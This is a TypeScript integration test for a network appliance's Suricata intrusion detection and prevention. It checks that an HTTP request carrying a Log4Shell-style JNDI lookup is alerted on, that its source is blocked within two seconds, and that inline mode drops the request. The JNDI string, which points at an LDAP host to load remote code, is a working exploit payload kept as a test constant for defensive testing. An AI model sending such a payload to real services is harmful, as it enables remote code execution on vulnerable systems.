/**
 * The IDS on the appliance: the rendered IDS pod's Suricata processes (AF_PACKET on the watched links, and NFQUEUE
 * for the inline pairs, as the DaemonSet runs them) and block agent (its own uid) beside the loader with the site's
 * `[dynamic_block]` section. From the internet host, a JNDI lookup in an HTTP request to a forwarded port is
 * alerted and its source is blocked at the XDP guard within 2 s (counted by the guard as `dynamic`), while another
 * internet source on the same path still reaches the forwarded host; where the forward leads into an inline pair,
 * the request itself is dropped by Suricata's verdict.
 *
 * Stand-ins: the rules are the site's local rules written where suricata-update leaves the last good rules (the
 * appliance has no rule source to fetch from, so the updater does not run); the forwarded host answers HTTP with
 * busybox in place of its probe server for the area's length; this kernel cannot load nft's queue
 * (test/helpers/nft-queue.ts: it loads as accept), so the queue is the stack's iptables-nft rendering of the same
 * model (ids/ips.iptables, test/ids/queue.test.ts shows both take the same packets). The internet addresses used
 * are outside the pool other areas probe from: a block lasts the site's duration.
 */
import { afterAll, beforeAll, expect, it } from "vitest";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { nthAddress } from "../../../../components/site/ip";
import type { PortForward } from "../../../../components/site/schema";
import { IDS_DAEMONSET } from "../../../../components/ids-stack/k8s";
import { renderLocalRules, ROUTER_IDS_PATHS } from "../../../../components/ids-stack/suricata";
import { type Appliance, type Host, ROOT } from "../appliance";
import { metrics } from "../checks";
import type { Daemon } from "../exec";
import { INTERNET } from "../internet";
import type { Area } from "../suite";
import { sleep, waitFor } from "../../../helpers/wait";
import { forwardTarget } from "./common";

const SURICATA = { ids: `${IDS_DAEMONSET}-suricata-ids`, ips: `${IDS_DAEMONSET}-suricata-ips` };
const AGENT = `${IDS_DAEMONSET}-block-agent`;
const DYNAMIC = 'router_dataplane_drop_packets_total{reason="dynamic"}';
/** Beyond the probe sources (internetSource: the pool's first INTERNET.sourceCount hosts). */
const [ATTACKER, NEIGHBOUR, INLINE_ATTACKER] = [1, 2, 3].map((i) =>
  nthAddress(INTERNET.sourcePool4, INTERNET.sourceCount + i),
);
const JNDI = "${jndi:ldap://198.51.100.7:1389/Exploit}";
const JNDI_SID = 9100003;

/** The first TCP forward of a single port on every WAN. */
function forward(site: Appliance["site"]): PortForward | undefined {
  // open to any internet source on every WAN: the area's attackers and neighbours are arbitrary internet hosts
  return site.portForwards.find((p) => p.protocol === "tcp" && !String(p.port).includes("-") && !p.wans && !p.sources);
}

interface Running {
  started: Daemon[];
  serve?: Daemon;
  target: Host;
  url: string;
  inline: boolean;
}

/** The EVE alerts a Suricata process of the pod wrote (by its log subdirectory). */
function alerts(
  app: Appliance,
  run: "ids" | "ips",
): { src_ip: string; alert: { signature_id: number; action: string } }[] {
  const eve = join(app.pods.hostPath(ROUTER_IDS_PATHS.logs), run, "eve.json");
  if (!existsSync(eve)) return [];
  return readFileSync(eve, "utf8")
    .split("\n")
    .filter((l) => l.includes('"event_type":"alert"'))
    .map((l) => JSON.parse(l) as { src_ip: string; alert: { signature_id: number; action: string } });
}

/** Starts a pod of the render and waits for its Suricata engine. */
async function startSuricata(app: Appliance, name: string): Promise<Daemon> {
  const d = app.pods.start(app.pods.spec(name));
  await waitFor(
    `${name}'s engine`,
    () => {
      if (d.exited) throw new Error(`${name} exited:\n${d.log().slice(-3000)}`);
      return d.log().includes("Engine started");
    },
    90_000,
    200,
  );
  return d;
}

async function setUp(app: Appliance, r: Running): Promise<void> {
  for (const a of [ATTACKER, NEIGHBOUR, INLINE_ATTACKER])
    app.exec(app.inet, ["ip", "addr", "add", `${a}/32`, "dev", "lo"]);
  // the last good rules, as an earlier update would have left them on the node
  writeFileSync(join(app.pods.hostPath(ROUTER_IDS_PATHS.rules), "suricata.rules"), renderLocalRules(app.site));
  const agent = app.pods.spec(AGENT);
  const uid = agent.runAs!;
  // the harness runs a pod's command as root with the container's capabilities; the agent's runAsUser is a second
  // setpriv, which alone holds SETUID and SETGID (a process of another uid keeps no capability across execve)
  r.started.push(
    app.pods.start(
      {
        ...agent,
        command: [
          ...["setpriv", "--reuid", String(uid.uid), "--regid", String(uid.gid), "--clear-groups"],
          join(ROOT, "images/ids", agent.command[0]),
          ...agent.command.slice(1),
        ],
      },
      [...agent.capabilities, "SETGID", "SETUID"],
    ),
  );
  r.started.push(await startSuricata(app, SURICATA.ids));
  if (r.inline) {
    const queue = app.opts.rendered.files.get("ids/ips.iptables");
    if (!queue) throw new Error("the site has inline pairs but the render has no ids/ips.iptables");
    for (const restore of ["iptables-restore", "ip6tables-restore"])
      app.exec(app.router, [restore, "--noflush"], { input: queue });
    r.started.push(await startSuricata(app, SURICATA.ips));
  }
  // the forwarded host answers HTTP for the area's length
  await r.serve?.stop();
  const www = join(app.work, "ids-www");
  mkdirSync(www, { recursive: true });
  writeFileSync(join(www, "index.html"), "ok\n");
  const port = String(forward(app.site)!.toPort ?? forward(app.site)!.port);
  r.started.push(
    app.daemons.start(
      "ids-httpd",
      ["ip", "netns", "exec", r.target.ns, "busybox", "httpd", "-f", "-p", `${r.target.addr4}:${port}`, "-h", www],
      join(app.work, "ids-httpd.log"),
    ),
  );
  await waitFor("the forwarded host's web server", () => get(app, r, NEIGHBOUR, "curl/7.88", 1), 10_000, 200);
}

/** One HTTP request from an internet source to the forward; true when it was answered. */
async function get(app: Appliance, r: Running, src: string, ua: string, timeout: number): Promise<boolean> {
  const argv = ["curl", "-sf", "-o", "/dev/null", "-m", String(timeout), "--interface", src, "-A", ua, r.url];
  return (await app.run(app.inet, argv, { allowFail: true })).status === 0;
}

export const ids: Area = {
  title: "ids",
  appliesTo: (site) => site.ids.enabled && site.ids.block !== undefined && forward(site) !== undefined,
  tests(ctx) {
    let r: Running | undefined;
    beforeAll(async () => {
      const app = ctx.app;
      const pf = forward(app.site)!;
      const target = forwardTarget(app, pf)!;
      r = {
        started: [],
        serve: app.daemons.list().find((d) => d.name === `${target.ns}-serve` && !d.exited),
        target,
        url: `http://${app.wans[0].addr4}:${pf.port}/index.html`,
        // the forward leads from the WAN's zone into the target's: an inline pair when the site names it
        inline: app.site.ids.ips.pairs.some((p) => p.from === app.plan.wans[0].zone && p.to === target.segment.zone),
      };
      await setUp(app, r);
    }, 240_000);
    afterAll(async () => {
      const app = ctx.app;
      for (const d of (r?.started ?? []).reverse()) await d.stop();
      if (r?.serve) app.serve(r.target.ns, r.target.name);
      for (const tool of ["iptables", "ip6tables"])
        for (const op of ["-F", "-X"]) app.exec(app.router, [tool, "-t", "security", op], { allowFail: true });
    }, 60_000);

    const diagnosis = (app: Appliance) =>
      [
        ...r!.started.map((d) => `--- ${d.name}\n${d.log().slice(-1200)}`),
        `--- alerts: ${JSON.stringify([...alerts(app, "ids"), ...alerts(app, "ips")].slice(-6))}`,
        `--- loader\n${app.loader!.log().slice(-800)}`,
      ].join("\n");

    it("a JNDI lookup from the internet to a forwarded port is alerted and its source blocked at the XDP guard within 2 s; another source on the same path still reaches the forwarded host", async () => {
      const app = ctx.app;
      expect(await get(app, r!, ATTACKER, "curl/7.88", 1), "the attacker's ordinary request before the attack").toBe(
        true,
      );
      const before = await metrics(app);
      const t0 = Date.now();
      // not awaited: where the pair is inline, Suricata drops the request itself and curl waits out its timeout
      const attack = get(app, r!, ATTACKER, JNDI, 2);
      let passed = true;
      while (passed && Date.now() - t0 < 5_000) {
        passed = await get(app, r!, ATTACKER, "curl/7.88", 0.3);
        if (passed) await sleep(50);
      }
      const took = Date.now() - t0;
      await attack;
      const after = await metrics(app);
      expect(passed, `the attacker still reached ${r!.url} 5 s after the attack:\n${diagnosis(app)}`).toBe(false);
      expect(took).toBeLessThan(2_000);
      // where the pair is inline the IPS process raises it: the request it dropped is never acknowledged, and the
      // IDS process inspects a direction's data once the other side acknowledges it
      const raised = [...alerts(app, "ids"), ...alerts(app, "ips")];
      expect(raised.some((a) => a.src_ip === ATTACKER && a.alert.signature_id === JNDI_SID)).toBe(true);
      expect(after.get(DYNAMIC) ?? 0).toBeGreaterThan(before.get(DYNAMIC) ?? 0);
      expect(after.get("router_dataplane_dynamic_block_entries")).toBe(
        (before.get("router_dataplane_dynamic_block_entries") ?? 0) + 1,
      );
      expect(app.loader!.log()).toContain(`${ATTACKER} blocked for`);
      expect(await get(app, r!, NEIGHBOUR, "curl/7.88", 2), "the neighbour on the same path").toBe(true);
      console.log(
        `${ctx.title}: ${ATTACKER} blocked at XDP ${took} ms after its JNDI request; ${NEIGHBOUR} unaffected`,
      );
    }, 60_000);

    it("where the forward leads into an inline pair, the JNDI request itself is dropped by Suricata's verdict (NFQUEUE), while the same request without the exploit string is answered", async (t) => {
      const app = ctx.app;
      if (!r!.inline) t.skip();
      expect(await get(app, r!, INLINE_ATTACKER, "curl/7.88", 2), "the same request without the exploit").toBe(true);
      expect(await get(app, r!, INLINE_ATTACKER, JNDI, 2), `the attack was answered:\n${diagnosis(app)}`).toBe(false);
      await waitFor("the inline alert", () =>
        alerts(app, "ips").some(
          (a) => a.src_ip === INLINE_ATTACKER && a.alert.signature_id === JNDI_SID && a.alert.action === "blocked",
        ),
      );
    }, 60_000);
  },
};
